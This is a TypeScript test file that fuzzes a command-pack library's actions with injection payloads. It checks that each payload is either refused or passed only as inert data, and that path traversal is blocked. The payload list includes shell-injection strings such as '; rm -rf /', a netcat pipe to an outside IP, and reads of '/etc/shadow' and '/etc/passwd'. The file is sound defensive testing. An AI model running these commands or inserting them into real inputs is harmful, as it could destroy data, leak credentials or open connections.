/**
 * Injection through every string argument of every stock action: whatever the
 * payload, either the contract refuses it before anything runs, or it reaches
 * the declared binary as (part of) one argv element / one encoded URL part —
 * never a new element, a shell, another binary, or another URL path.
 */
import t from 'tap'
import { PackCatalog, prepareInvocation, type ArgSpec } from '@writ/packs'
import { STOCK_PACKS } from './helpers/runner-harness.js'

const PAYLOADS = [
  '; rm -rf /', '$(touch /tmp/writ-pwned)', '`id`', 'a\nb', 'a\rb', '--help', '-rf', '../../etc/passwd', '..', '/etc/shadow',
  'x && reboot', '| nc 10.0.0.1 1', '%2e%2e%2f', 'a b', "'quoted'", '"dq"', '\u0000', 'a/../../b', '?x=1#frag', 'a%00b',
]

const catalog = PackCatalog.fromDirs([STOCK_PACKS])

/** A valid value for every required argument, taken from the action's first example. */
function baseArgs(examples: Array<{ args: Record<string, unknown> }>, specs: readonly ArgSpec[]): Record<string, unknown> {
  const ex = examples[0]?.args ?? {}
  const out: Record<string, unknown> = {}
  for (const s of specs) if (ex[s.name] !== undefined) out[s.name] = ex[s.name]
  return out
}

t.test('every string argument of every stock action, every payload', async (t) => {
  let refused = 0
  let acceptedAsData = 0
  for (const { pack, action } of catalog.allActions()) {
    const spec = action.spec
    const stringArgs = spec.args.filter((a) => a.type === 'string' || a.type === 'path' || a.type === 'duration' || a.type === 'string_array')
    const base = baseArgs(spec.examples, spec.args)
    const clean = prepareInvocation(spec, base, pack.dir)
    t.ok(clean.ok, `${action.id}: its own example renders`)
    if (!clean.ok) continue
    for (const arg of stringArgs) {
      for (const payload of PAYLOADS) {
        const value = arg.type === 'string_array' ? [payload] : payload
        const r = prepareInvocation(spec, { ...base, [arg.name]: value }, pack.dir)
        if (!r.ok) { refused++; continue }
        acceptedAsData++
        const inv = r.invocation
        const ref = clean.invocation
        if (inv.kind === 'exec' && ref.kind === 'exec') {
          t.equal(inv.binary, ref.binary, `${action.id}.${arg.name} ${JSON.stringify(payload)}: same binary`)
          t.ok(inv.argv.length <= ref.argv.length + (base[arg.name] === undefined ? 1 : 0), `${action.id}.${arg.name}: no extra argv element`)
          t.ok(inv.argv.some((el) => el.includes(payload)), `${action.id}.${arg.name}: the payload sits inside one element`)
        } else if (inv.kind === 'http' && ref.kind === 'http') {
          const pathOf = (p: string) => p.split('?')[0] as string
          t.equal(pathOf(inv.path).split('/').length, pathOf(ref.path).split('/').length, `${action.id}.${arg.name} ${JSON.stringify(payload)}: same number of path segments`)
          t.notOk(/\.\.|[\s;`$]/.test(decodeURI(pathOf(inv.path)).replace(encodeURIComponent(payload), '')), `${action.id}.${arg.name}: nothing outside the encoded part`)
          t.equal(inv.method, ref.method)
        } else if (inv.kind === 'list') {
          t.notOk(inv.relPath.split('/').includes('..'), `${action.id}.${arg.name}: listing stays under the root`)
          t.notOk(inv.relPath.startsWith('/'), `${action.id}.${arg.name}: relative to the root`)
        } else t.fail(`unexpected invocation kind ${inv.kind}`)
      }
    }
  }
  t.comment(`payloads refused by contracts: ${refused}; accepted as inert data: ${acceptedAsData}`)
  t.ok(refused > 0)
})

t.test('storage.csi_volume_ls refuses ".." and absolute paths', async (t) => {
  const hit = catalog.lookup('storage.csi_volume_ls')
  t.ok(hit.ok)
  if (!hit.ok) return
  for (const p of ['..', '../..', 'a/../../b', '/etc', 'x/..']) {
    const r = prepareInvocation(hit.action.spec, { path: p }, hit.pack.dir)
    t.equal(r.ok, false, `"${p}" refused`)
  }
})
